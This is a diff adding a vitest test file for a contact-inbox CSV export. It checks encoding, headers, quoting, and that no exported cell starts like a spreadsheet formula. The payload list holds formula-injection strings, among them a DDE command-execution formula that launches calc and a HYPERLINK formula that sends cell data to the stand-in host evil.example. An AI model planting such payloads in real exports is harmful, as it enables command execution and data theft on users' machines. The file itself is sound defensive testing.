@@ -1,0 +1,91 @@
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { formsWith } from '../setup/attacked-forms.ts';
+import { startStack, submission, type Stack } from '../setup/stack.ts';
+
+/** What programs of spreadsheets take for the beginning of a formula. */
+const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+let stack: Stack;
+beforeAll(async () => {
+  stack = await startStack();
+});
+afterAll(() => stack.stop());
+
+const store = async (changes: Record<string, unknown>) => {
+  const row = submission(changes);
+  expect((await stack.visitor().from('contact_submissions').insert(row)).error).toBeNull();
+  return String(row['id']);
+};
+const download = () => fetch(`${stack.backend.deskUrl}/inbox.csv`);
+/** The table, read by somebody else's program. */
+const rows = async (delimiter = ',') =>
+  parse(await (await download()).text(), {
+    bom: true,
+    delimiter,
+    columns: delimiter === ',',
+    relax_quotes: delimiter !== ',',
+    relax_column_count: delimiter !== ',',
+  }) as unknown as Record<string, string>[];
+
+describe('the inbox as a table', () => {
+  it('is linked from the inbox, and comes as a file in UTF-8 that spreadsheets know as such', async () => {
+    expect(await (await fetch(`${stack.backend.deskUrl}/inbox`)).text()).toContain('href="/inbox.csv"');
+    const response = await download();
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="inbox.csv"');
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+    expect([...new Uint8Array(await response.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  });
+
+  it('has every request as it was typed, whatever signs are in it', async () => {
+    const message = 'One, "two"; three\r\nfour\n\n"" 🦊 Zürich \' \\ ,,,';
+    const id = await store({ name: 'O’Neil, "Bo"', message });
+    const row = (await rows()).find((found) => found['id'] === id);
+    expect(row).toMatchObject({
+      name: 'O’Neil, "Bo"',
+      message,
+      kind: 'contact_submissions',
+      notified_at: '',
+      tries: '0',
+    });
+  });
+
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '＝1',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?"&A1)',
+  ])('has no formula in any field: %j', async (formula) => {
+    for (const { table, row } of formsWith(formula)) {
+      // An address may begin like a formula, too.
+      const email = `=1+1.${String(row['email'])}`;
+      expect(
+        (
+          await stack
+            .visitor()
+            .from(table)
+            .insert({ ...row, email })
+        ).error,
+        table,
+      ).toBeNull();
+    }
+    const found = await rows();
+    expect(
+      found.filter(({ name }) => name?.startsWith("'") && name.replaceAll("'", '') === formula.replaceAll("'", '')),
+    ).toHaveLength(5);
+    for (const row of found) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
+  });
+
+  it.each([';', '\t'])('has none either for a program that takes %j for the end of a cell', async (sign) => {
+    await store({ name: `x${sign}=1+1`, message: `x\n=1+1${sign} +1\n"${sign}=1` });
+    const cells = (await rows(sign)) as unknown as string[][];
+    expect(cells.flat().length).toBeGreaterThan(5);
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^ *[=+\-@]/);
+  });
+});
